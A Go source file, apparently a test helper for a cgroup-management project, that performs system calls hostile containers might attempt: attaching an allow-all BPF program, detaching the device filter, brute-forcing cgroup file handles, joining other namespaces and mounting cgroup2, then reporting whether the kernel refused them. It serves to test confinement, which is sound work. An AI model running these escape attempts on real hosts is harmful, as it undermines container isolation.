@@ -1,0 +1,218 @@
+// Copyright The cgrant Authors
+// SPDX-License-Identifier: Apache-2.0
+
+// Attack makes the system calls of hostile workloads that a shell cannot: `attack NAME [ARGUMENT…]`. It ends with 0 when
+// the call did what a container must not do, and with 1 and the kernel's reason when it was refused.
+package main
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"strings"
+	"syscall"
+	"unsafe"
+)
+
+// System calls that the package syscall does not name, as amd64 numbers them.
+const (
+	sysNameToHandleAt = 303
+	sysOpenByHandleAt = 304
+	sysSetns          = 308
+	sysRenameat2      = 316
+	sysBpf            = 321
+	sysOpenTree       = 428
+	sysMoveMount      = 429
+	sysFsopen         = 430
+	sysFsconfig       = 431
+	sysFsmount        = 432
+)
+
+const (
+	atFdcwd        = ^uintptr(99)
+	renameExchange = 2
+	bpfProgLoad    = 5
+	bpfProgAttach  = 8
+	bpfProgDetach  = 9
+	cgroupTop      = "/sys/fs/cgroup"
+)
+
+func main() {
+	attacks := map[string]func([]string) error{
+		"bpf-load":   bpfLoad,
+		"bpf-detach": bpfDetach,
+		"clone-into": cloneInto,
+		"exchange":   exchange,
+		"fsopen":     fsopen,
+		"open-tree":  openTree,
+		"handles":    handles,
+		"setns":      setns,
+		"setxattr":   setxattr,
+		"userns":     userns,
+	}
+	if len(os.Args) < 2 || attacks[os.Args[1]] == nil {
+		fmt.Fprintln(os.Stderr, "unknown attack")
+		os.Exit(2)
+	}
+	if err := attacks[os.Args[1]](os.Args[2:]); err != nil {
+		fmt.Println(err)
+		os.Exit(1)
+	}
+}
+
+func call(number uintptr, arguments ...uintptr) (uintptr, error) {
+	var words [6]uintptr
+	copy(words[:], arguments)
+	result, _, errno := syscall.Syscall6(number, words[0], words[1], words[2], words[3], words[4], words[5])
+	if errno != 0 {
+		return 0, errno
+	}
+	return result, nil
+}
+
+func text(value string) uintptr {
+	pointer, err := syscall.BytePtrFromString(value)
+	if err != nil {
+		panic(err)
+	}
+	return uintptr(unsafe.Pointer(pointer))
+}
+
+func open(path string) (uintptr, error) {
+	file, err := syscall.Open(path, syscall.O_RDONLY, 0)
+	return uintptr(file), err
+}
+
+// A program that lets every packet through, of the type that is attached to cgroups.
+func bpfLoad([]string) error {
+	instructions := []uint64{0x00000001_0000_00b7, 0x00000000_0000_0095}
+	licence := []byte("GPL\x00")
+	attributes := struct {
+		kind, count           uint32
+		instructions, licence uint64
+		rest                  [12]uint64
+	}{kind: 8, count: 2}
+	attributes.instructions = uint64(uintptr(unsafe.Pointer(&instructions[0])))
+	attributes.licence = uint64(uintptr(unsafe.Pointer(&licence[0])))
+	program, err := call(sysBpf, bpfProgLoad, uintptr(unsafe.Pointer(&attributes)), unsafe.Sizeof(attributes))
+	if err != nil {
+		return err
+	}
+	top, err := open(cgroupTop)
+	if err != nil {
+		return err
+	}
+	attachment := [4]uint32{uint32(top), uint32(program), 0, 0}
+	_, err = call(sysBpf, bpfProgAttach, uintptr(unsafe.Pointer(&attachment)), unsafe.Sizeof(attachment))
+	return err
+}
+
+// The filter of devices is such a program.
+func bpfDetach([]string) error {
+	top, err := open(cgroupTop)
+	if err != nil {
+		return err
+	}
+	const cgroupDevice = 6
+	attachment := [4]uint32{uint32(top), 0, cgroupDevice, 0}
+	_, err = call(sysBpf, bpfProgDetach, uintptr(unsafe.Pointer(&attachment)), unsafe.Sizeof(attachment))
+	return err
+}
+
+// Starts a process in the cgroup of a folder.
+func cloneInto(arguments []string) error {
+	folder, err := open(arguments[0])
+	if err != nil {
+		return err
+	}
+	command := exec.Command("/bin/true")
+	command.SysProcAttr = &syscall.SysProcAttr{UseCgroupFD: true, CgroupFD: int(folder)}
+	return command.Run()
+}
+
+func exchange(arguments []string) error {
+	_, err := call(sysRenameat2, atFdcwd, text(arguments[0]), atFdcwd, text(arguments[1]), renameExchange)
+	return err
+}
+
+func fsopen([]string) error {
+	context, err := call(sysFsopen, text("cgroup2"), 0)
+	if err != nil {
+		return err
+	}
+	if _, err = call(sysFsconfig, context, 6, 0, 0, 0); err != nil {
+		return err
+	}
+	mount, err := call(sysFsmount, context, 0, 0)
+	if err != nil {
+		return err
+	}
+	_, err = call(sysMoveMount, mount, text(""), atFdcwd, text("/tmp"), 4)
+	return err
+}
+
+func openTree(arguments []string) error {
+	_, err := call(sysOpenTree, atFdcwd, text(arguments[0]), 1)
+	return err
+}
+
+// A handle of the cgroup file system names a cgroup by its number: those above ours have small ones.
+func handles([]string) error {
+	type handle struct {
+		size uint32
+		kind int32
+		id   uint64
+	}
+	own := handle{size: 8}
+	var mount int32
+	_, err := call(sysNameToHandleAt, atFdcwd, text(cgroupTop), uintptr(unsafe.Pointer(&own)), uintptr(unsafe.Pointer(&mount)), 0)
+	if err != nil {
+		return err
+	}
+	top, err := open(cgroupTop)
+	if err != nil {
+		return err
+	}
+	refused := error(syscall.ESTALE)
+	for id := uint64(1); id < own.id && id < 20000; id++ {
+		other := handle{size: 8, kind: own.kind, id: id}
+		file, err := call(sysOpenByHandleAt, top, uintptr(unsafe.Pointer(&other)), syscall.O_RDONLY)
+		if err == nil {
+			target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", file))
+			fmt.Println("opened", id, target)
+			return nil
+		}
+		refused = err
+	}
+	return refused
+}
+
+// Joins the cgroup namespace of a process.
+func setns(arguments []string) error {
+	namespace, err := open("/proc/" + arguments[0] + "/ns/cgroup")
+	if err != nil {
+		return err
+	}
+	_, err = call(sysSetns, namespace, syscall.CLONE_NEWCGROUP)
+	return err
+}
+
+func setxattr(arguments []string) error {
+	value := make([]byte, 1)
+	return syscall.Setxattr(arguments[0], arguments[1], value, 0)
+}
+
+// Becomes root of a user namespace of its own, with a cgroup namespace and mounts of its own, and mounts cgroup v2.
+func userns([]string) error {
+	command := exec.Command("/bin/sh", "-c", "mount -t cgroup2 none /tmp")
+	command.SysProcAttr = &syscall.SysProcAttr{
+		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWCGROUP,
+		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
+		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
+	}
+	output, err := command.CombinedOutput()
+	if err != nil {
+		return fmt.Errorf("%w %s", err, strings.TrimSpace(string(output)))
+	}
+	return nil
+}
